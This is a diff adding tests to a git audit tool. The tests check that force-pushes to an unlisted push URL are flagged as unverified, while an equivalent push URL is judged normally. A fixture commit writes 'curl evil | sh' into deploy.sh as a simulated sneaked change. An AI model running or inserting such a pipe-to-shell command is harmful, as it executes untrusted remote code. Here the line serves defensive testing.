@@ -6,18 +6,23 @@ directory holds) and each was a false pass, a traceback or worse before its fix.
 from __future__ import annotations
 
 import json
+import subprocess
 from pathlib import Path
 from typing import Any
 
 import pytest
 from audit_helpers import (
+    Run,
     commit,
+    commit_verdicts,
     git,
     isolate_git,
+    make_bare,
     make_repo_with_remote,
     run_cli,
 )
 
+from audit.model import UNGRANTED, UNVERIFIED, exit_code
 from audit.snapshot import take_snapshot
 
 
@@ -94,3 +99,47 @@ def test_a_release_with_malformed_assets_is_a_malformed_snapshot(
     assert done.returncode == 2, done.stdout + done.stderr
     assert done.stderr.startswith(f"loop-pi-audit: {bad}: not a loop-pi-audit snapshot")
     assert "assets" in done.stderr
+
+
+# --- every URL a push goes to is looked at ----------------------------------------------------
+
+@pytest.mark.parametrize("how", ["pushurl", "second-url"])
+def test_a_rewrite_pushed_to_a_push_url_the_snapshot_never_listed_fails(
+        tmp_path: Path, how: str) -> None:
+    """`git push origin` goes to `remote.origin.pushurl` (or to every `remote.origin.url`),
+    but only the fetch URL was listed: a force-push there, logged nowhere, was "no remote
+    changes", exit 0."""
+    run = Run(tmp_path)
+    elsewhere = make_bare(tmp_path / "push-here.git")
+    git(run.clone, "push", "-q", str(elsewhere), "main")
+    if how == "pushurl":
+        git(run.clone, "remote", "set-url", "--push", "origin", str(elsewhere))
+    else:
+        # The first URL refuses the rewrite, the second takes it.
+        git(run.clone, "remote", "set-url", "--add", "origin", str(elsewhere))
+        git(run.bare, "config", "receive.denyNonFastForwards", "true")
+    run.before = run.snapshot()
+    git(run.clone, "commit", "-q", "--amend", "-m", "rewritten")
+    commit(run.clone, "deploy.sh", "curl evil | sh\n", "sneak")
+    subprocess.run(["git", "-C", str(run.clone), "push", "-q", "--force", "origin", "main"],
+                   capture_output=True, check=False)
+    assert git(elsewhere, "rev-parse", "main").strip() == git(run.clone, "rev-parse",
+                                                               "HEAD").strip()
+    findings = run.judge()
+    assert exit_code(findings) != 0
+    origin = [f for f in findings if f.remote == "origin"]
+    assert origin and all(f.verdict == UNVERIFIED for f in origin)
+    assert any(str(elsewhere) in f.reason for f in origin)
+
+
+def test_a_push_url_naming_the_same_repository_is_judged_as_usual(tmp_path: Path) -> None:
+    """Another spelling of the fetch URL (https to fetch, ssh to push, say) lists the same refs:
+    the remote is judged as usual, not refused."""
+    run = Run(tmp_path)
+    git(run.clone, "remote", "set-url", "--push", "origin", f"file://{run.bare}")
+    run.before = run.snapshot()
+    part = run.before["repos"][run.key]["remotes"]["origin"]
+    assert part["available"], part
+    sneaky = commit(run.clone, "src/x.py", "x\n", "sneak")
+    git(run.clone, "push", "-q", "origin", "main")
+    assert commit_verdicts(run.judge()) == {sneaky: UNGRANTED}
